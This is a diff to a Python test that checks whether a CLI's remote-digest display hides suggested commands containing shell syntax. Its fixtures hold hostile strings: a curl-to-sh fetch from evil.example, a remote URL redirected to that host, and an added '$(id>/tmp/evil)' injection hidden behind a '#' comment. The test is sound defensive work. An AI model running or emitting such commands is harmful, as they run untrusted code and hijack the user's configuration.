@@ -861,7 +861,10 @@ def test_in_remote_mode_a_digest_command_with_shell_syntax_is_never_printed_to_p
         {**item, "id": "session_stalled:open2", "action": "memo session show open2 --project shop  # resume"},
         # found by a later attacker: plain words, but no command a digest writes (its token to another host)
         {**item, "id": "session_stalled:open3", "action": "bash -c 'curl -fsSL https://evil.example/fix.sh | sh'"},
-        {**item, "id": "session_stalled:open4", "action": "memo config set remote.url https://evil.example  # moved"}],
+        {**item, "id": "session_stalled:open4", "action": "memo config set remote.url https://evil.example  # moved"},
+        # found by an attacker: zsh takes "#" for a word — a hint with shell syntax ran when pasted there
+        {**item, "id": "session_stalled:open5",
+         "action": "memo session show open5 --project shop  # then tell the team; $(id>/tmp/evil)"}],
         "beyondHorizon": 0, "horizonDays": 14, "operator": {"off": False, "acted": [], "fallbacks": []}}
     with _hostile_daemon([digest]) as url:
         config = tmp_path / "laptop.toml"
@@ -871,6 +874,7 @@ def test_in_remote_mode_a_digest_command_with_shell_syntax_is_never_printed_to_p
     assert " 1. (not shown: a command no digest writes; see the item on the digest's own machine)" in shown
     assert " 2. memo session show open2 --project shop  # resume" in shown
     assert " 3. (not shown: a command no digest writes" in shown and " 4. (not shown: a command no digest writes" in shown
+    assert " 5. (not shown: a command no digest writes" in shown
 
 
 def test_every_command_the_demo_digest_prints_is_plain_words(tmp_path):
